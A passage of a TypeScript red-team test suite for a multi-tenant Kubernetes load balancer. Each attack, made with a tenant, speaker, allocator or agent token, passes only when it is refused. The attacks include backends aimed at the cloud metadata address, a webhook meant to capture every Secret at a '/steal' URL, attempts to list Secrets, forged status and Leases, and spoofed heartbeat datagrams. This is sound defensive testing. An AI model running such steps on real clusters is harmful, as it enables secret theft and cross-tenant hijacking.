// The attacks, each made with the credentials its attacker would really have (context.ts), each judged by what
// refused it or by the absence of its effect. The runner (run.ts) checks collateral around every one of them.
import { spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import * as k8s from '@kubernetes/client-node';
import type { BGPPeer, ConsumerCluster, VIPClaim, VIPPool } from '../../src/api/v1alpha1.ts';
import { approvalOf } from '../../src/core/allocation/approval.ts';
import { main } from '../../src/cli/main.ts';
import type { CliIO } from '../../src/cli/command-args.ts';
import { resourceClient } from '../../src/kube/custom-objects.ts';
import { updateWithRetry } from '../../src/kube/update.ts';
import { encodeProbe, parsePeerAddress } from '../../src/speaker/l2/probe-wire.ts';
import { eventually } from '../../lab/eventually.ts';
import { SPEAKER_NAMESPACE } from '../../lab/topology.ts';
import { ATTACKER, RedTeam, VICTIM, type Attack, type CallResult, type Credential, type Outcome } from './context.ts';

const blocked = (evidence: string): Outcome => ({ blocked: true, evidence });
const leaked = (evidence: string): Outcome => ({ blocked: false, evidence });
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Blocked when the apiserver refused the call and its message matches `why`. */
function refusedWith(r: CallResult, why: RegExp): Outcome {
  if (!r.refused) return leaked('the apiserver accepted it');
  return why.test(r.message)
    ? blocked(`${r.code}: ${r.message}`)
    : leaked(`refused, but not for the expected reason: ${r.code}: ${r.message}`);
}

const FORBIDDEN = /forbidden/i;

// ------------------------------------------------------------------ tenant token: backends

/**
 * A claim pointing at `address`: refused at admission, or else never given a Cilium slot toward it on any LB node
 * (the allocator and every speaker check again).
 */
function hostileBackend(
  name: string,
  covers: string,
  address: (rt: RedTeam) => string | Promise<string>,
  why: RegExp,
): Attack {
  return {
    name,
    credential: 'tenant token',
    covers,
    async run(rt) {
      const target = await address(rt);
      const claim = rt.claim(name, { backends: [{ nodeName: `evil-${name}`, address: target, ready: true }] });
      const r = await RedTeam.call(() => rt.tenantClaims.create(claim));
      if (r.refused) return refusedWith(r, why);
      // Admitted (no webhook?): give the allocator and the speakers time to act, then look at Cilium itself.
      await sleep(5000);
      const slots = await rt.ciliumSlotsToward((await rt.readClaim(name))?.status?.vip, target);
      return slots.length > 0
        ? leaked(`Cilium slots toward ${target}: ${slots.join('; ')}`)
        : blocked(`admitted, but no LB node programmed ${target}`);
    },
    cleanup: (rt) => rt.deleteRedTeamClaims(),
  };
}

/** The attacker's own served claim, edited: refused at admission, as an update. */
function hostileUpdate(
  name: string,
  covers: string,
  edit: (rt: RedTeam, c: VIPClaim) => VIPClaim,
  why: RegExp,
): Attack {
  return {
    name,
    credential: 'tenant token',
    covers,
    async run(rt) {
      const own = await ownClaim(rt);
      const r = await RedTeam.call(() => rt.tenantClaims.replace(edit(rt, own)));
      return r.refused ? refusedWith(r, why) : leaked('the update of an allocated claim was admitted');
    },
    // Admitted or not, the attacker's agent puts its Service's spec back on its next resync.
  };
}

async function ownClaim(rt: RedTeam): Promise<VIPClaim> {
  const c = await rt.topo.claimOf(ATTACKER, 'own');
  if (!c) throw new Error("the attacker's own claim is missing");
  return c;
}

const otherTenantNode = (rt: RedTeam) => rt.topo.tenant(VICTIM).nodes[0]!.ip;
const APISERVER_IN_TENANT_RANGE = '10.200.1.250';
/** A pool address the operator already routes elsewhere (foreign-route-kept). */
const FOREIGN_ROUTE_VIP = '198.51.100.246';

const backendAttacks: Attack[] = [
  hostileBackend('backend-loopback', 'backends on loopback', () => '127.0.0.1', /127\.0\.0\.1 is loopback/),
  hostileBackend(
    'backend-cloud-metadata',
    'backends on link-local (the metadata service)',
    () => '169.254.169.254',
    /169\.254\.169\.254 is link-local/,
  ),
  hostileBackend('backend-this-network', 'backends in 0.0.0.0/8', () => '0.1.2.3', /0\.1\.2\.3 is/),
  hostileBackend('backend-multicast', 'backends on multicast', () => '224.0.0.251', /224\.0\.0\.251 is multicast/),
  hostileBackend(
    'backend-lb-node',
    'backends on an LB node',
    (rt) => rt.topo.lbNodes[0]!.backendIp,
    /is outside ConsumerCluster c1 spec\.allowedBackendCIDRs|is LB node/,
  ),
  hostileBackend(
    'backend-other-tenant',
    "backends on another tenant's nodes",
    otherTenantNode,
    /is outside ConsumerCluster c1 spec\.allowedBackendCIDRs/,
  ),
  hostileBackend(
    'backend-lb-cluster-service',
    "backends in the LB cluster's Service range",
    async (rt) =>
      (
        await rt.topo.lb.kubeConfig
          .makeApiClient(k8s.CoreV1Api)
          .readNamespacedService({ namespace: 'default', name: 'kubernetes' })
      ).spec!.clusterIP!,
    /is in the LB cluster's Service range/,
  ),
  {
    ...hostileBackend(
      'backend-lb-apiserver',
      "backends on the LB cluster's apiserver, even inside the tenant's own range",
      async (rt) => {
        // The lab's apiserver advertises loopback, for which Kubernetes publishes no endpoint; a real one advertises a
        // node address. Published here as the apiserver would, inside the attacker's own range, so only the rule
        // about the apiserver can refuse it.
        const discovery = rt.topo.lb.kubeConfig.makeApiClient(k8s.DiscoveryV1Api);
        await discovery.createNamespacedEndpointSlice({
          namespace: 'default',
          body: {
            metadata: { name: 'kubernetes', labels: { 'kubernetes.io/service-name': 'kubernetes' } },
            addressType: 'IPv4',
            endpoints: [{ addresses: [APISERVER_IN_TENANT_RANGE], conditions: { ready: true } }],
            ports: [{ name: 'https', port: 6443, protocol: 'TCP' }],
          },
        });
        // In a real cluster the apiserver's endpoints exist long before any tenant: wait until the webhook's
        // deny-list has them (a dry run is refused for that reason), so the attack meets the rule and not the lab's
        // informer lag. (A fixed 2 s sleep here once let the claim in on a loaded CI machine.)
        await eventually(
          "the webhook to know the LB cluster's apiserver endpoint",
          async () => {
            const probe = rt.claim('apiserver-probe', {
              backends: [{ nodeName: 'probe', address: APISERVER_IN_TENANT_RANGE, ready: true }],
            });
            const r = await RedTeam.call(() =>
              rt.tenantKc.makeApiClient(k8s.CustomObjectsApi).createNamespacedCustomObject({
                group: 'kube-lb.io',
                version: 'v1alpha1',
                plural: 'vipclaims',
                namespace: probe.metadata.namespace!,
                body: probe,
                dryRun: 'All',
              }),
            );
            return r.refused && /LB cluster's apiserver/.test(r.message) ? true : undefined;
          },
          30_000,
        );
        return APISERVER_IN_TENANT_RANGE;
      },
      /10\.200\.1\.250 is the LB cluster's apiserver/,
    ),
    async cleanup(rt) {
      await rt.deleteRedTeamClaims();
      await rt.topo.lb.kubeConfig
        .makeApiClient(k8s.DiscoveryV1Api)
        .deleteNamespacedEndpointSlice({ namespace: 'default', name: 'kubernetes' })
        .catch(() => undefined);
    },
  },
  hostileBackend(
    'backend-a-vip',
    'backends inside a VIP pool',
    (rt) => rt.victimVip,
    /is in VIPPool default: a VIP is never a backend/,
  ),
  hostileUpdate(
    'update-allocated-claim-to-other-tenant',
    'updates of allocated claims, not only creates',
    (rt, c) => ({
      ...c,
      spec: {
        ...c.spec,
        backends: [...c.spec.backends, { nodeName: 'evil', address: otherTenantNode(rt), ready: true }],
      },
    }),
    /spec\.backends\[\d+\]\.address: 10\.200\.2\.\d+ is outside ConsumerCluster c1/,
  ),
  hostileUpdate(
    'update-allocated-claim-over-port-limit',
    'per-claim limits on updates',
    (_rt, c) => ({
      ...c,
      spec: {
        ...c.spec,
        ports: Array.from({ length: 65 }, (_, i) => ({
          protocol: 'TCP' as const,
          port: 2000 + i,
          nodePort: 31000 + i,
        })),
      },
    }),
    /65 ports, ConsumerCluster c1 spec\.limits\.portsPerClaim is 64/,
  ),
  editWhileAllocatorDown(),
];

/** The attacker's served claim, edited while the allocator is down; its cleanup puts the spec back. */
function editWhileAllocatorDown(): Attack {
  let specBefore: VIPClaim['spec'] | undefined;
  return {
    name: 'edit-while-allocator-down',
    credential: 'tenant token',
    covers: 'the speakers serve only what the allocator approved',
    async run(rt) {
      // The allocator is down (its webhook with it, failing open): the tenant rewrites its served claim to point
      // at the victim's node and at loopback.
      await rt.topo.stopAllocator();
      const own = await ownClaim(rt);
      specBefore = own.spec;
      const evil = [otherTenantNode(rt), '127.0.0.1'];
      const r = await RedTeam.call(() =>
        rt.tenantClaims.replace({
          ...own,
          spec: {
            ...own.spec,
            backends: [
              ...own.spec.backends,
              ...evil.map((address) => ({ nodeName: `evil-${address}`, address, ready: true })),
            ],
          },
        }),
      );
      if (r.refused) return blocked(`refused even without the allocator: ${r.message}`);
      await sleep(5000);
      const slots = (await Promise.all(evil.map((a) => rt.ciliumSlotsToward(rt.ownVip, a)))).flat();
      if (slots.length > 0) return leaked(`programmed: ${slots.join('; ')}`);
      const served = await rt.topo.request('tcp', rt.ownVip, 80, 2000);
      return blocked(
        `no LB node programmed ${evil.join(', ')}; the claim's VIP ${served.ok ? `still answers: ${served.text}` : `does not answer: ${served.text}`}`,
      );
    },
    async cleanup(rt) {
      if (specBefore) {
        const own = await ownClaim(rt);
        await rt.adminClaims.replace({ ...own, spec: specBefore });
      }
      await rt.topo.startAllocator();
    },
  };
}

/** One API call with an attacker's credentials: blocked when the apiserver refuses it for `why`. */
function refusedCall(
  name: string,
  credential: Credential,
  covers: string,
  call: (rt: RedTeam) => Promise<unknown>,
  why: RegExp,
): Attack {
  return { name, credential, covers, run: async (rt) => refusedWith(await RedTeam.call(() => call(rt)), why) };
}

const createPool = (kc: k8s.KubeConfig) =>
  resourceClient<VIPPool>(kc, 'VIPPool').create({
    apiVersion: 'kube-lb.io/v1alpha1',
    kind: 'VIPPool',
    metadata: { name: 'redteam-pool' },
    spec: { addresses: ['198.51.100.0/24'] },
  });
const takeAllocatorLease = (kc: k8s.KubeConfig) =>
  kc.makeApiClient(k8s.CoordinationV1Api).createNamespacedLease({
    namespace: SPEAKER_NAMESPACE,
    body: { metadata: { name: 'kube-lb-allocator' }, spec: { holderIdentity: 'evil' } },
  });
const emptyOwnClaim = async (rt: RedTeam, kc: k8s.KubeConfig) => {
  const own = await ownClaim(rt);
  return resourceClient<VIPClaim>(kc, 'VIPClaim').replace({ ...own, spec: { ...own.spec, backends: [] } });
};

// ------------------------------------------------------------------ tenant token: tenancy, quota, shared state

const tenancyAttacks: Attack[] = [
  {
    name: 'claim-in-other-tenant-namespace',
    credential: 'tenant token',
    covers: "claims in another tenant's namespace",
    async run(rt) {
      const c = rt.claim('trespass');
      return refusedWith(
        await RedTeam.call(() =>
          rt.tenantClaims.create({
            ...c,
            metadata: { ...c.metadata, namespace: rt.topo.tenant(VICTIM).tenantNamespace },
          }),
        ),
        FORBIDDEN,
      );
    },
  },
  hostileBackendLike(
    'claim-naming-other-cluster',
    'a claim naming another cluster',
    (rt) => {
      const c = rt.claim('impostor');
      return { ...c, spec: { ...c.spec, service: { ...c.spec.service, cluster: VICTIM } } };
    },
    /spec\.service\.cluster: "c2" is not the tenant of namespace tenant-c1/,
  ),
  hostileBackendLike(
    'requested-ip-of-other-tenant',
    "another tenant's VIP by requestedIPs",
    (rt) => rt.claim('grab', { requestedIPs: [rt.victimVip] }),
    /is held by|not available|in use/,
  ),
  hostileBackendLike(
    'sharing-key-hijack',
    "another tenant's VIP by sharing key",
    (rt) => rt.claim('hijack', { requestedIPs: [rt.victimVip], sharingKey: 'victim' }),
    /is held by|not available|in use/,
  ),
  hostileBackendLike(
    'ports-over-limit',
    'per-claim port limit',
    (rt) =>
      rt.claim('ports', {
        ports: Array.from({ length: 65 }, (_, i) => ({
          protocol: 'TCP' as const,
          port: 3000 + i,
          nodePort: 31000 + i,
        })),
      }),
    /65 ports, ConsumerCluster c1 spec\.limits\.portsPerClaim is 64/,
  ),
  hostileBackendLike(
    'backends-over-limit',
    'per-claim backend limit',
    (rt) =>
      rt.claim('backends', {
        backends: Array.from({ length: 1001 }, (_, i) => ({
          nodeName: `n${i}`,
          address: `10.${200 + (i >> 8)}.1.${i & 255}`,
          ready: true,
        })),
      }),
    /spec\.backends: 1001 backends, ConsumerCluster c1 spec\.limits\.backendsPerClaim is 1000/,
  ),
  {
    name: 'fill-the-maps',
    credential: 'tenant token',
    covers: 'one tenant exhausting the maps everyone shares',
    async run(rt) {
      // Within every per-claim limit, over the tenant's total (64 slots in the red team's setup): three claims of
      // 4 ports × 8 backends on one shared VIP. The oldest two fit; the third must be refused by every speaker.
      const backends = Array.from({ length: 8 }, (_, i) => ({
        nodeName: `fill-${i}`,
        address: `10.200.1.${100 + i}`,
        ready: true,
      }));
      for (let k = 0; k < 3; k++) {
        const ports = Array.from({ length: 4 }, (_, i) => ({
          protocol: 'TCP' as const,
          port: 4000 + k * 10 + i,
          nodePort: 32000 + k * 10 + i,
        }));
        const r = await RedTeam.call(() =>
          rt.tenantClaims.create(rt.claim(`fill-${k}`, { ports, backends, sharingKey: 'fill' })),
        );
        if (r.refused)
          return leaked(
            `claim ${k} was refused at admission, which the per-claim limits do not call for: ${r.message}`,
          );
        await sleep(300); // distinct creation times: "oldest first" must be decidable
      }
      const third = await eventually(
        'the third claim marked by the speakers',
        async () => {
          const c = await rt.readClaim('fill-2');
          const p = c?.status?.conditions?.find((x) => x.type === 'Programmed');
          return p && p.status === 'False' ? p : undefined;
        },
        30_000,
      ).catch(() => undefined);
      if (!third) return leaked("the claim over the tenant's total was not refused by the speakers");
      const vip = (await rt.readClaim('fill-0'))?.status?.vip;
      // Each speaker decides on its own informer's view, so one that saw fill-2 before fill-1 may hold it for a
      // moment after the status says NotServed; what must hold is where they settle.
      let perNode = Number.POSITIVE_INFINITY;
      await eventually(
        "every LB node within the tenant's 64 slots",
        async () => {
          const rows = [...(await rt.ciliumListing()).values()]
            .flat()
            .filter((l) => vip && l.startsWith(`${vip}:40`) && !l.includes('0.0.0.0:0'));
          perNode = rows.length / rt.topo.lbNodes.length;
          return perNode <= 64 ? true : undefined;
        },
        15_000,
      ).catch(() => undefined);
      return perNode <= 64
        ? blocked(`${third.reason}: ${third.message}; ${perNode} slots per LB node`)
        : leaked(`${perNode} slots per LB node, over the tenant's 64`);
    },
    cleanup: (rt) => rt.deleteRedTeamClaims(),
  },
  {
    name: 'exhaust-the-pool',
    credential: 'tenant token',
    covers: 'quota: one tenant taking every VIP',
    async run(rt) {
      // maxVIPs is 8 and the tenant holds one: nine more claims, each asking for its own VIP.
      for (let k = 0; k < 9; k++) {
        const r = await RedTeam.call(() =>
          rt.tenantClaims.create(rt.claim(`vip-${k}`, { ports: [{ protocol: 'TCP', port: 80, nodePort: 30080 }] })),
        );
        if (r.refused) return leaked(`refused at admission: ${r.message}`);
      }
      const refused = await eventually(
        'claims over the quota refused',
        async () => {
          const mine = (await rt.adminClaims.list(rt.attackerNamespace)).items.filter((c) =>
            c.metadata.name?.startsWith('redteam.vip-'),
          );
          const withVip = mine.filter((c) => c.status?.vip);
          const over = mine.filter((c) =>
            c.status?.conditions?.some((x) => x.type === 'Allocated' && x.status === 'False'),
          );
          return withVip.length === 7 && over.length === 2 ? over : undefined;
        },
        30_000,
      ).catch(() => undefined);
      if (!refused) return leaked('the quota did not hold');
      const cond = refused[0]!.status!.conditions!.find((x) => x.type === 'Allocated')!;
      return blocked(`7 of 9 got a VIP (8 with its own Service); the rest: ${cond.reason}: ${cond.message}`);
    },
    cleanup: (rt) => rt.deleteRedTeamClaims(),
  },
  {
    name: 'write-own-claim-status',
    credential: 'tenant token',
    covers: 'a tenant handing itself an address',
    async run(rt) {
      const own = await ownClaim(rt);
      return refusedWith(
        await RedTeam.call(() =>
          rt.tenantClaims.replaceStatus({ ...own, status: { ...own.status, vip: '198.51.100.1' } }),
        ),
        FORBIDDEN,
      );
    },
  },
  refusedCall('create-a-pool', 'tenant token', "pools are the operator's", (rt) => createPool(rt.tenantKc), FORBIDDEN),

  {
    name: 'widen-own-backend-ranges',
    credential: 'tenant token',
    covers: "tenant ranges are the operator's",
    async run(rt) {
      const clusters = resourceClient<ConsumerCluster>(rt.tenantKc, 'ConsumerCluster');
      const mine = await clusters.get(ATTACKER);
      return refusedWith(
        await RedTeam.call(() =>
          clusters.replace({ ...mine, spec: { ...mine.spec, allowedBackendCIDRs: ['0.0.0.0/0'] } }),
        ),
        FORBIDDEN,
      );
    },
  },
  refusedCall(
    'read-secrets',
    'tenant token',
    'Secrets of the LB cluster',
    (rt) => rt.tenantKc.makeApiClient(k8s.CoreV1Api).listNamespacedSecret({ namespace: SPEAKER_NAMESPACE }),
    FORBIDDEN,
  ),

  refusedCall(
    'delete-admission-webhook',
    'tenant token',
    'the admission configuration',
    (rt) => rt.tenantKc.makeApiClient(k8s.AdmissionregistrationV1Api).deleteCollectionValidatingWebhookConfiguration(),
    FORBIDDEN,
  ),

  refusedCall(
    'take-allocator-lease',
    'tenant token',
    "the allocator's leader election",
    (rt) => takeAllocatorLease(rt.tenantKc),
    FORBIDDEN,
  ),
];

/** A claim the admission webhook or the allocator refuses; blocked when either says why, never served. */
function hostileBackendLike(name: string, covers: string, make: (rt: RedTeam) => VIPClaim, why: RegExp): Attack {
  return {
    name,
    credential: 'tenant token',
    covers,
    async run(rt) {
      const claim = make(rt);
      const r = await RedTeam.call(() => rt.tenantClaims.create(claim));
      if (r.refused) return refusedWith(r, why);
      const short = claim.metadata.name!.slice('redteam.'.length);
      const cond = await eventually(
        `${claim.metadata.name} decided`,
        async () => {
          const c = await rt.readClaim(short);
          return c?.status?.conditions?.find((x) => x.type === 'Allocated');
        },
        30_000,
      ).catch(() => undefined);
      const c = await rt.readClaim(short);
      if (c?.status?.vip === rt.victimVip) return leaked(`given the victim's VIP ${rt.victimVip}`);
      if (!cond) return leaked('admitted and never decided');
      if (cond.status !== 'False') return leaked(`allocated: ${cond.message}`);
      return why.test(cond.message)
        ? blocked(`admitted, then refused by the allocator: ${cond.reason}: ${cond.message}`)
        : leaked(`refused by the allocator, but not for the expected reason: ${cond.reason}: ${cond.message}`);
    },
    cleanup: (rt) => rt.deleteRedTeamClaims(),
  };
}

// ------------------------------------------------------------------ speaker token

const speakerAttacks: Attack[] = [
  refusedCall(
    'speaker-takes-allocator-lease',
    'speaker token',
    'Leases: the speaker writes only its own',
    (rt) => takeAllocatorLease(rt.speakerKc),
    /writes only its per-node Leases/,
  ),

  {
    name: 'speaker-forges-status-vip',
    credential: 'speaker token',
    covers: 'a forged status.vip (every LB node would answer ARP for a gateway)',
    async run(rt) {
      const claims = resourceClient<VIPClaim>(rt.speakerKc, 'VIPClaim');
      const own = await ownClaim(rt);
      return refusedWith(
        await RedTeam.call(() => claims.replaceStatus({ ...own, status: { ...own.status, vip: '198.51.100.1' } })),
        /status\.vip and status\.pool are the allocator's/,
      );
    },
  },
  {
    name: 'speaker-flips-allocated',
    credential: 'speaker token',
    covers: "the Allocated condition is the allocator's",
    async run(rt) {
      const claims = resourceClient<VIPClaim>(rt.speakerKc, 'VIPClaim');
      const own = await ownClaim(rt);
      const conditions = (own.status?.conditions ?? []).map((c) =>
        c.type === 'Allocated' ? { ...c, status: 'False' as const, reason: 'Evil' } : c,
      );
      return refusedWith(
        await RedTeam.call(() => claims.replaceStatus({ ...own, status: { ...own.status, conditions } })),
        /the Allocated condition is the allocator's/,
      );
    },
  },
  {
    name: 'speaker-forges-approval',
    credential: 'speaker token',
    covers: "the allocator's record of what it approved",
    async run(rt) {
      const claims = resourceClient<VIPClaim>(rt.speakerKc, 'VIPClaim');
      const own = await ownClaim(rt);
      const approved = own.status?.approved;
      if (!approved) return leaked('the claim carries no approval record to forge');
      const forged = {
        ...approved,
        backends: [...(approved.backends ?? []), { nodeName: 'evil', address: otherTenantNode(rt), ready: true }],
      };
      return refusedWith(
        await RedTeam.call(() => claims.replaceStatus({ ...own, status: { ...own.status, approved: forged } })),
        /status\.approved is the allocator's/,
      );
    },
  },
  {
    name: 'speaker-writes-another-nodes-lease',
    credential: 'speaker token',
    covers: "a node's speaker faking another node's membership",
    async run(rt) {
      // The token a speaker Pod on lb-1 really holds: bound to its Pod, so Kubernetes puts the node in it.
      const [mine, theirs] = [rt.topo.lbNodes[0]!.name, rt.topo.lbNodes[1]!.name];
      const token = await podBoundSpeakerToken(rt, mine);
      const coord = rt.topo.lb
        .kubeConfigForToken(token, `system:serviceaccount:${SPEAKER_NAMESPACE}:kube-lb-speaker`)
        .kubeConfig.makeApiClient(k8s.CoordinationV1Api);
      // lb-2's own speaker renews this Lease every few hundred ms. A renewal landing between our read and our
      // write answers with a 409 before admission runs, so the write goes through kube-lb's conflict loop (read
      // again on a 409): only the policy may answer.
      const name = `speaker-l2-${theirs}`;
      return refusedWith(
        await RedTeam.call(() =>
          updateWithRetry<k8s.V1Lease>({
            attempts: 10,
            read: () => coord.readNamespacedLease({ namespace: SPEAKER_NAMESPACE, name }),
            mutate: (lease) => ({
              ...lease,
              metadata: {
                ...lease.metadata,
                annotations: { ...lease.metadata?.annotations, 'kube-lb.io/l2-leaving': 'true' },
              },
            }),
            write: (body) => coord.replaceNamespacedLease({ namespace: SPEAKER_NAMESPACE, name, body }),
          }),
        ),
        new RegExp(`the speaker on node ${mine} writes only that node's Leases, not speaker-l2-${theirs}`),
      );
    },
    async cleanup(rt) {
      await rt.topo.lb.kubeConfig
        .makeApiClient(k8s.CoreV1Api)
        .deleteNamespacedPod({ namespace: SPEAKER_NAMESPACE, name: 'redteam-speaker', gracePeriodSeconds: 0 })
        .catch(() => undefined);
    },
  },
  {
    name: 'speaker-forges-another-nodes-bgp-session',
    credential: 'speaker token',
    covers: "a node's speaker reporting another node's BGP session up (or down) in BGPPeer status",
    async run(rt) {
      const [mine, theirs] = [rt.topo.lbNodes[0]!.name, rt.topo.lbNodes[1]!.name];
      await resourceClient<BGPPeer>(rt.topo.lb.kubeConfig, 'BGPPeer').create({
        apiVersion: 'kube-lb.io/v1alpha1',
        kind: 'BGPPeer',
        metadata: { name: 'redteam-router' },
        spec: { peerAddress: '192.0.2.254', peerASN: 64512, myASN: 64512 },
      });
      const token = await podBoundSpeakerToken(rt, mine, 'redteam-speaker-bgp');
      const custom = rt.topo.lb
        .kubeConfigForToken(token, `system:serviceaccount:${SPEAKER_NAMESPACE}:kube-lb-speaker`)
        .kubeConfig.makeApiClient(k8s.CustomObjectsApi);
      const entry = (node: string) =>
        custom.patchClusterCustomObjectStatus(
          {
            group: 'kube-lb.io',
            version: 'v1alpha1',
            plural: 'bgppeers',
            name: 'redteam-router',
            body: {
              apiVersion: 'kube-lb.io/v1alpha1',
              kind: 'BGPPeer',
              metadata: { name: 'redteam-router' },
              status: { nodes: [{ node, session: 'Established' }] },
            },
            fieldManager: `kube-lb-speaker-${node}`,
            force: true,
          },
          k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.ServerSideApply),
        );
      // The control: the same token writes its own node's entry, as every speaker does.
      const own = await RedTeam.call(() => entry(mine));
      if (own.refused) return leaked(`the speaker could not write its own entry either: ${own.code}: ${own.message}`);
      return refusedWith(
        await RedTeam.call(() => entry(theirs)),
        new RegExp(`the speaker on node ${mine} writes only that node's session entry`),
      );
    },
    async cleanup(rt) {
      await resourceClient<BGPPeer>(rt.topo.lb.kubeConfig, 'BGPPeer')
        .delete('redteam-router')
        .catch(() => undefined);
      await rt.topo.lb.kubeConfig
        .makeApiClient(k8s.CoreV1Api)
        .deleteNamespacedPod({ namespace: SPEAKER_NAMESPACE, name: 'redteam-speaker-bgp', gracePeriodSeconds: 0 })
        .catch(() => undefined);
    },
  },
  refusedCall(
    'speaker-edits-claim-spec',
    'speaker token',
    "claim specs are the tenants'",
    (rt) => emptyOwnClaim(rt, rt.speakerKc),
    FORBIDDEN,
  ),

  refusedCall(
    'speaker-reads-secrets',
    'speaker token',
    'Secrets',
    (rt) => rt.speakerKc.makeApiClient(k8s.CoreV1Api).listSecretForAllNamespaces(),
    FORBIDDEN,
  ),

  refusedCall(
    'speaker-creates-pool',
    'speaker token',
    "pools are the operator's",
    (rt) => createPool(rt.speakerKc),
    FORBIDDEN,
  ),
];

/**
 * A speaker token as the DaemonSet's Pod on `node` holds it: a TokenRequest bound to a Pod scheduled there (the
 * lab has no kubelet; the Pod object is what binds the token).
 */
async function podBoundSpeakerToken(rt: RedTeam, node: string, podName = 'redteam-speaker'): Promise<string> {
  const core = rt.topo.lb.kubeConfig.makeApiClient(k8s.CoreV1Api);
  const pod = await core.createNamespacedPod({
    namespace: SPEAKER_NAMESPACE,
    body: {
      metadata: { name: podName },
      spec: {
        nodeName: node,
        serviceAccountName: 'kube-lb-speaker',
        containers: [{ name: 'speaker', image: 'kube-lb:redteam' }],
      },
    },
  });
  const tr = await core.createNamespacedServiceAccountToken({
    namespace: SPEAKER_NAMESPACE,
    name: 'kube-lb-speaker',
    body: {
      spec: {
        audiences: [],
        expirationSeconds: 3600,
        boundObjectRef: { apiVersion: 'v1', kind: 'Pod', name: pod.metadata!.name!, uid: pod.metadata!.uid! },
      },
    },
  });
  return tr.status!.token!;
}

// ------------------------------------------------------------------ allocator token

const allocatorAttacks: Attack[] = [
  {
    name: 'allocator-creates-a-webhook',
    credential: 'allocator token',
    covers: 'a webhook configuration that would see every Secret written',
    async run(rt) {
      const adm = rt.allocatorKc.makeApiClient(k8s.AdmissionregistrationV1Api);
      return refusedWith(
        await RedTeam.call(() =>
          adm.createValidatingWebhookConfiguration({
            body: {
              metadata: { name: 'redteam-secrets' },
              webhooks: [
                {
                  name: 'secrets.redteam.example',
                  sideEffects: 'None',
                  admissionReviewVersions: ['v1'],
                  failurePolicy: 'Ignore',
                  clientConfig: { url: 'https://127.0.0.1:1/steal' },
                  rules: [
                    { apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE', 'UPDATE'], resources: ['secrets'] },
                  ],
                },
              ],
            },
          }),
        ),
        FORBIDDEN,
      );
    },
  },
  refusedCall(
    'allocator-reads-secrets',
    'allocator token',
    "Secrets beyond the allocator's own",
    (rt) => rt.allocatorKc.makeApiClient(k8s.CoreV1Api).listSecretForAllNamespaces(),
    FORBIDDEN,
  ),

  refusedCall(
    'allocator-edits-claim-spec',
    'allocator token',
    "claim specs are the tenants'",
    (rt) => emptyOwnClaim(rt, rt.allocatorKc),
    FORBIDDEN,
  ),
];

// ------------------------------------------------------------------ consumer agent token (in its consumer cluster)

/**
 * A Service of the attacker's consumer cluster, merge-patched with its agent's token (patch is the verb its RBAC
 * grants, on every Service, since RBAC cannot name them in advance): refused by the agent's Service policy.
 */
function agentServicePatch(
  name: string,
  covers: string,
  service: string,
  body: object,
  status: boolean,
  why: RegExp,
  around: { setup?(rt: RedTeam): Promise<unknown>; cleanup?(rt: RedTeam): Promise<void> } = {},
): Attack {
  return {
    name,
    credential: 'consumer agent token',
    covers,
    ...(around.cleanup ? { cleanup: around.cleanup } : {}),
    async run(rt) {
      await around.setup?.(rt);
      const core = rt.consumerAgentKc.makeApiClient(k8s.CoreV1Api);
      const mergePatch = k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch);
      return refusedWith(
        await RedTeam.call(() =>
          status
            ? core.patchNamespacedServiceStatus({ namespace: 'default', name: service, body }, mergePatch)
            : core.patchNamespacedService({ namespace: 'default', name: service, body }, mergePatch),
        ),
        why,
      );
    },
  };
}

const consumerAgentAttacks: Attack[] = [
  agentServicePatch(
    'agent-rewires-a-service',
    'the consumer agent changing what a Service selects',
    'own',
    { spec: { selector: { app: 'evil' } } },
    false,
    /the kube-lb agent may not change the spec of Service default\/own/,
  ),
  // A LoadBalancer Service of another implementation's class, in the attacker's consumer cluster.
  agentServicePatch(
    'agent-publishes-an-ip-for-another-lb',
    'the consumer agent writing the status of a Service another load balancer serves',
    'other-lb',
    { status: { loadBalancer: { ingress: [{ ip: '198.51.100.1' }] } } },
    true,
    /may only remove its entries from the status of Service default\/other-lb/,
    {
      setup: (rt) =>
        rt.topo.tenant(ATTACKER).core.createNamespacedService({
          namespace: 'default',
          body: {
            metadata: { name: 'other-lb' },
            spec: { type: 'LoadBalancer', loadBalancerClass: 'example.com/other', ports: [{ port: 80 }] },
          },
        }),
      cleanup: async (rt) => {
        await rt.topo
          .tenant(ATTACKER)
          .core.deleteNamespacedService({ namespace: 'default', name: 'other-lb' })
          .catch(() => undefined);
      },
    },
  ),
  agentServicePatch(
    'agent-adds-a-foreign-finalizer',
    'the consumer agent holding Services back with finalizers that are not its own',
    'own',
    { metadata: { finalizers: ['kube-lb.io/load-balancer-cleanup', 'example.com/keep'] } },
    false,
    /may change no finalizer but kube-lb\.io\/load-balancer-cleanup/,
  ),
];

// ------------------------------------------------------------------ client segment

/** The heartbeat address a node's Lease advertises (kube-lb.io/l2-peer). */
async function peerAddress(rt: RedTeam, node: string): Promise<{ host: string; port: number }> {
  const lease = await rt.topo.lb.kubeConfig
    .makeApiClient(k8s.CoordinationV1Api)
    .readNamespacedLease({ namespace: SPEAKER_NAMESPACE, name: `speaker-l2-${node}` });
  const text = lease.metadata?.annotations?.['kube-lb.io/l2-peer'];
  const peer = parsePeerAddress(node, text);
  if (!peer) throw new Error(`the Lease of ${node} advertises no heartbeat address (kube-lb.io/l2-peer: ${text})`);
  return peer;
}

/** Sends datagrams from the client's network namespace: what a host on the segment can do. */
async function fromClient(
  rt: RedTeam,
  host: string,
  port: number,
  datagrams: Buffer[],
  everyMs: number,
  forMs: number,
): Promise<void> {
  const code = `
    const s = require('node:dgram').createSocket('udp4');
    const d = JSON.parse(process.argv[1]).map((b) => Buffer.from(b, 'base64'));
    const end = Date.now() + ${forMs};
    const tick = () => { for (const b of d) s.send(b, ${port}, ${JSON.stringify(host)}); if (Date.now() < end) setTimeout(tick, ${everyMs}); else setTimeout(() => s.close(), 50); };
    tick();`;
  await new Promise<void>((resolve, reject) => {
    const p = spawn(
      'ip',
      [
        'netns',
        'exec',
        rt.topo.client.name,
        process.execPath,
        '-e',
        code,
        JSON.stringify(datagrams.map((b) => b.toString('base64'))),
      ],
      { stdio: 'inherit' },
    );
    p.on('error', reject);
    p.on('exit', (c) => (c === 0 ? resolve() : reject(new Error(`datagram sender exited ${c}`))));
  });
}

/** Forged byes from `as` to every other node: blocked when no node stops seeing `as` live and no VIP moves. */
